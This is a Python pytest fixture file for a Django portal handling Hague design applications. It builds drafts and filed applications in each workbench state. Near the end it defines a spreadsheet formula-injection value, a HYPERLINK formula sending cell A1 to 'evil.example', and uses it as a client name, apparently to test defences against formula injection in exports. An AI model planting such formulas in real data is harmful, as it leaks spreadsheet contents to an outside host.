"""Applications in every state of the workbench, made through the services users go through
(the wizard's save, the submission) so that the workbench's columns are filled as in use."""

from datetime import date, timedelta

import pytest
from django.db import transaction
from django.utils import timezone

from hague_portal.examination.models import Examination, Invitation
from hague_portal.filings.models import Draft, DraftStatus
from hague_portal.filings.selectors import PORTAL_KEYS, draft_document
from hague_portal.filings.services import draft_create
from hague_portal.hague.clock import geneva_today
from hague_portal.portfolio.consumers import workbench_state_sync
from hague_portal.submissions.services import submission_create

from ..filings.conftest import fill, reference  # noqa: F401 - fixture
from ..submissions.conftest import add_reproduction, fees_for, jpeg, media, no_broker  # noqa: F401


def a_draft(user, *, client=None, **doc):
    """A draft as the wizard leaves it: created, then every page saved."""
    return fill(draft_create(user=user, client=client), user, **doc)


def a_filed(user, *, client=None, status="received", time_limit=None, **doc):
    """A filed application (a real submission with its examination) in `status`."""
    draft = a_draft(user, client=client, **doc)
    add_reproduction(draft, 1, 1, jpeg(Draft.objects.count()))
    with transaction.atomic():  # what draft_submit does around submission_create
        doc = draft_document(draft)
        fees = fees_for({k: v for k, v in doc.items() if k not in PORTAL_KEYS})
        submission = submission_create(draft=draft, user=user, document=doc, fees=fees)
    Draft.objects.filter(pk=draft.pk).update(
        status=DraftStatus.SUBMITTED, submitted_at=timezone.now()
    )
    Examination.objects.filter(submission=submission).update(status=status, time_limit=time_limit)
    workbench_state_sync(submission_id=submission.pk)
    return submission


def an_invitation(submission, *, by, days: int, sequence=1) -> Invitation:
    """An open invitation to correct irregularities whose time limit is `days` from today."""
    limit = geneva_today() + timedelta(days=days)
    Examination.objects.filter(submission=submission).update(status="irregular", time_limit=limit)
    workbench_state_sync(submission_id=submission.pk)
    return Invitation.objects.create(
        examination=submission.examination,
        sequence=sequence,
        sent_at=timezone.now(),
        time_limit=limit,
        sent_by=by,
    )


@pytest.fixture
def world(alice, bob, acme, reference, media, no_broker):  # noqa: F811
    """Alice's own two applications; ACME's (bob's firm) in every state."""
    today = geneva_today()
    return {
        "alice_draft": a_draft(alice, reference="ALICE-1"),
        "alice_filed": a_filed(alice, reference="ALICE-2"),
        "acme_draft": a_draft(bob, client=acme, reference="ACME-DRAFT"),
        "acme_received": a_filed(bob, client=acme, reference="ACME-REC"),
        "acme_irregular": a_filed(
            bob, client=acme, status="irregular", time_limit=today + timedelta(days=40)
        ),
        "acme_registered": a_filed(bob, client=acme, status="registered"),
        "acme_abandoned": a_filed(bob, client=acme, status="abandoned"),
    }


def days_from_today(days: int) -> date:
    return geneva_today() + timedelta(days=days)


HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.fixture
def hostile(bob, bobs_firm, reference, media, no_broker):  # noqa: F811
    """A client named like a formula, with one draft and one filed application."""
    from ..factories import ClientFactory

    evil = ClientFactory(firm=bobs_firm, name=HOSTILE)
    return a_draft(bob, client=evil, reference="+SUM(1;2)"), a_filed(bob, client=evil)
